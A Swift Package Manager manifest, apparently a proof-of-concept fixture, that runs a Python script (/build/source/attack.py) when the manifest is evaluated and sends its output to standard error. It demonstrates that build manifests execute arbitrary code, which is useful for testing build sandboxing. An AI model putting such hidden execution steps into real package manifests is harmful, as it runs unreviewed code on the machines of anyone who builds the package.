// swift-tools-version: 5.9
import Foundation
import PackageDescription

// A manifest is a program, and runs.
let attack = Process()
attack.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
attack.arguments = ["/build/source/attack.py"]
let output = Pipe()
attack.standardOutput = output
try attack.run()
let said = output.fileHandleForReading.readDataToEndOfFile()
attack.waitUntilExit()
FileHandle.standardError.write(said)

let package = Package(name: "attack", targets: [.executableTarget(name: "attack")])
